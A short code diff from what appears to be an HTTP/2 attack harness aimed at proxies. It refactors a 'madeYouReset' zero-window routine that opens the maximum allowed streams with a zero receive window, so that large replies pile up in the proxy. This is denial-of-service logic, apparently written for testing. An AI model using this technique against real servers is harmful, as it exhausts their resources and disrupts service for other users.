@@ -7,7 +7,6 @@
  * so every reply byte must wait in the proxy).
  */
 import type net from 'node:net';
-import { setTimeout as sleep } from 'node:timers/promises';
 import {
   aborted,
   drained,
@@ -19,6 +18,7 @@ import {
   type Target,
 } from './kit.js';
 import {
+  allowedStreams,
   clientPreface,
   echoRequestMessage,
   FLAG,
@@ -100,9 +100,9 @@ export const madeYouReset: Attack = {
 /** One zero-window connection: waits for the proxy's SETTINGS, then opens as many streams as it allows. */
 async function zeroWindowConnection(socket: net.Socket, tracker: Tracker, target: Target) {
   const watched = watch(socket, tracker);
-  socket.write(clientPreface([[SETTING.INITIAL_WINDOW_SIZE, 0]]));
-  await Promise.race([watched.settled, sleep(2000)]);
-  const streams = Math.min(ZERO_WINDOW_STREAMS, watched.maxStreams ?? ZERO_WINDOW_STREAMS);
+  const streams = await allowedStreams(socket, watched, ZERO_WINDOW_STREAMS, [
+    [SETTING.INITIAL_WINDOW_SIZE, 0],
+  ]);
   const encoder = newEncoder();
   const body = echoRequestMessage('x'.repeat(ZERO_WINDOW_REPLY_BYTES), ZERO_WINDOW_REPLIES);
   const parts: Buffer[] = [];
